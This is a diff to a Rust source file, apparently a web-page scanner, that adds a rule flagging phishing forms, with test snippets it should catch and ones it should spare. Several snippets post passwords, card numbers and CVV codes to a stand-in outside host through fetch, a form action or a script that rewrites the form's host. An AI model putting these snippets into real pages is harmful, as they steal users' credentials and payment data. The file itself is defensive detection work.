@@ -1,7 +1,42 @@
 //! Forms that a script sends: elsewhere than the page says, or without anybody's doing.
 
-use super::page::{PHISHING, foreign};
-use crate::guard::{fact::Call, found::Found, value::Value};
+use super::{Rule, page::foreign};
+use crate::guard::{fact::Call, found::Found, value::Value, verdict::Severity};
+
+pub static PHISHING: Rule = Rule {
+    id: "page-phishing-form",
+    severity: Severity::Block,
+    why: "the form asks for secrets and sends them to another site",
+    remedy: "post the form to the app's own server",
+    finds: &[
+        (
+            "x.jsx",
+            "const go = () => fetch('https://c.example.net/in', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
+        ),
+        (
+            "x.html",
+            "<form action=\"https://c.example.net/l.php\" method=post><input name=u><input type=password name=p></form>",
+        ),
+        (
+            "x.html",
+            "<form id=f><input type=password></form><script>const u = new URL(location); u.host = at(); f.action = u;</script>",
+        ),
+        (
+            "x.js",
+            "app.post('/in', async (req, res) => { const { password } = req.body; await bcrypt.compare(password, h); fetch('https://c.example.net', { body: JSON.stringify(req.body) }); });\nimport bcrypt from 'bcrypt';",
+        ),
+        ("x.html", "<form><input type=password><button formaction=\"//c.example.net/\">in</button></form>"),
+        ("x.html", "<form action=https://c.example.net><input name=card_number><input name=cvv></form>"),
+    ],
+    spares: &[
+        (
+            "x.jsx",
+            "const go = () => fetch('/login', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
+        ),
+        ("x.html", "<form action=\"/login\" method=post><input type=password></form>"),
+        ("x.html", "<form action=\"https://formspree.io/f/x\"><input type=email name=email></form>"),
+    ],
+};
 
 /// A form that asks for a secret is sent, by a script, to an address whose host the script has changed.
 pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
